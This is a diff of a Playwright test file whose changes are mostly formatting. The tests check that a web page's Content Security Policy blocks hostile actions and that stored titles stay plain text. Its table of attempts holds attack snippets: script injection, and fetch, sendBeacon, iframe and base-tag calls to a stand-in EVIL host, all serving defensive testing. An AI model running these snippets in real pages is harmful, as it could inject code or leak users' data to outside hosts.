@@ -1,5 +1,5 @@
-import { createHash } from 'node:crypto';
 import type { Page } from '@playwright/test';
+import { createHash } from 'node:crypto';
 import { OWN_KEY, expect, test, watch } from './fixtures.ts';
 import { MARKUP, expectOnlyText } from './hostile.ts';
 
@@ -27,7 +27,9 @@ const attempt = async (page: Page, code: string): Promise<string> => {
   return page.evaluate(
     () =>
       new Promise<string>((done) => {
-        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective), { once: true });
+        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective), {
+          once: true,
+        });
         setTimeout(() => done('nothing'), 3_000);
         dispatchEvent(new Event('attempt'));
       }),
@@ -52,13 +54,21 @@ const ATTEMPTS: readonly (readonly [name: string, refusedBy: string, code: strin
   ['an inline script', TYPES, `const s = document.createElement('script'); s.append(${PWN}); document.head.append(s)`],
   ['a script of another site', TYPES, `document.createElement('script').src = '${EVIL}/x.js'`],
   ['a policy to trust', 'trusted-types', `trustedTypes.createPolicy('default', {})`],
-  ['a style element', 'style-src-elem', `const s = document.createElement('style'); s.append('p {}'); document.head.append(s)`],
+  [
+    'a style element',
+    'style-src-elem',
+    `const s = document.createElement('style'); s.append('p {}'); document.head.append(s)`,
+  ],
   ['a style attribute', 'style-src-attr', `document.body.setAttribute('style', 'color: red')`],
   ['a picture of another site', 'img-src', `new Image().src = '${EVIL}/x.png'`],
   ['a picture in its address', 'img-src', `new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`],
   ['a request to another site', 'connect-src', `fetch('${EVIL}/').catch(() => {})`],
   ['a beacon to another site', 'connect-src', `navigator.sendBeacon('${EVIL}/', 'x')`],
-  ['a frame of another site', 'frame-src', `document.body.appendChild(document.createElement('iframe')).src = '${EVIL}/'`],
+  [
+    'a frame of another site',
+    'frame-src',
+    `document.body.appendChild(document.createElement('iframe')).src = '${EVIL}/'`,
+  ],
   ['another base', 'base-uri', `document.head.appendChild(document.createElement('base')).href = '${EVIL}/'`],
   [
     'a form to another site',
@@ -120,6 +130,7 @@ test.describe('these tests notice', () => {
   }
 });
 
+// product.md, General: texts.
 test.describe('what is stored is text', () => {
   const addedAt = '2026-11-01T10:00:00.000Z';
   const title = { id: 1_001, media_type: 'movie', title: MARKUP, overview: MARKUP, poster_path: `"${MARKUP}`, addedAt };
